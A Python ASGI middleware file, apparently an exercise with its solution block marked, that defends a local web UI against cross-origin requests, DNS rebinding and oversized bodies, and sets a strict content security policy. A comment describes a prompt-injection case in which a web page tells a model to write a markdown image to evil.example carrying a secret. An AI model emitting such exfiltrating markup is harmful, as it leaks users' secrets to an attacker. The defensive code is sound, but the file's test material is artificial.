"""Who may talk to this server: its own page, and programs on this machine. No other web page may.

A page of another origin can send requests to 127.0.0.1 from its visitor's browser. Three checks stop it:
- Origin: a browser names the page that sends a request. It must be ours.
- Host: with DNS rebinding, evil.example resolves to 127.0.0.1 and the browser takes its page and our server for one
  origin. The Host header still reads evil.example.
- Sec-Fetch-Site: a page gets an image or a script without an Origin. The browser marks such a request as cross-site.
"""

from collections.abc import Iterable

from starlette.datastructures import Headers
from starlette.types import ASGIApp, Message, Receive, Scope, Send

from webui.errors import WebError

# No script but our own files, no connection but to us, and no image from elsewhere: a model that is told by a web page
# to write ![](https://evil.example/?secret) must not send the secret. `trusted-types` leaves DOMPurify as the only way
# from a string to HTML.
POLICY = (
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; "
    "base-uri 'none'; form-action 'none'; frame-ancestors 'none'; "
    "require-trusted-types-for 'script'; trusted-types dompurify"
)
HEADERS = {
    "cache-control": "no-cache",  # else a browser may keep a script for days after its file has changed
    "content-security-policy": POLICY,
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
    "cross-origin-opener-policy": "same-origin",
    "cross-origin-resource-policy": "same-origin",
}


def own_hosts(port: int) -> set[str]:
    """The Host headers under which this machine's browser reaches the server."""
    return {f"{name}:{port}" for name in ("127.0.0.1", "localhost", "[::1]")}


def refusal(headers: Headers, hosts: Iterable[str]) -> WebError | None:
    """Why a request is refused: a WebError with status 403. None if the request may pass.

    hosts: every Host header that names this server, with its port. Of the requests without an Origin, those with the
    header sec-fetch-site: cross-site are refused, unless sec-fetch-mode is `navigate`: a link on another page may open
    ours.
    """
    # BEGIN SOLUTION: refuse a foreign Host, a foreign Origin, and what the browser calls cross-site
    host, origin = headers.get("host", ""), headers.get("origin")
    if host not in hosts:
        return WebError(
            403, f"This server is not {host[:100] or 'without a Host header'}.", "Open it by its own address."
        )
    if origin is not None and origin not in (f"http://{host}", f"https://{host}"):
        return WebError(403, f"A page of {origin[:100]} may not use this server.", "Use this server's own page.")
    # A link from elsewhere may open our page (`navigate`), but nothing else.
    if headers.get("sec-fetch-site") == "cross-site" and headers.get("sec-fetch-mode") != "navigate":
        return WebError(403, "Another site may not use this server.", "Use this server's own page.")
    return None
    # END SOLUTION


class Guard:
    """Refuses foreign requests and large bodies, and adds the headers that restrict the page."""

    def __init__(self, app: ASGIApp, hosts: Iterable[str], most_bytes: int, larger: dict[str, int]) -> None:
        self.app, self.hosts, self.most_bytes, self.larger = app, set(hosts), most_bytes, larger

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        most, seen = self.larger.get(scope["path"], self.most_bytes), 0
        too_much = WebError(413, f"That is more than {most:,} bytes.", "Send less, or raise the limit (settings.py).")
        replaced = False

        async def guarded_send(message: Message) -> None:
            nonlocal replaced
            if replaced:
                return
            if message["type"] == "http.response.start":
                if seen > most:  # FastAPI would report a body that it could not read as invalid
                    replaced = True
                    await too_much.response()(scope, receive, with_headers)
                    return
                await with_headers(message)
            else:
                await send(message)

        async def with_headers(message: Message) -> None:
            if message["type"] == "http.response.start":
                message["headers"] = [*message["headers"], *((k.encode(), v.encode()) for k, v in HEADERS.items())]
            await send(message)

        async def guarded_receive() -> Message:
            nonlocal seen
            message = await receive()
            seen += len(message.get("body", b""))
            if seen > most:
                raise too_much
            return message

        headers = Headers(scope=scope)
        refused = refusal(headers, self.hosts)
        length = headers.get("content-length", "0")
        if refused is None and (not length.isdecimal() or int(length) > most):
            refused = too_much
        if refused:
            await refused.response()(scope, receive, guarded_send)
        else:
            await self.app(scope, guarded_receive, guarded_send)
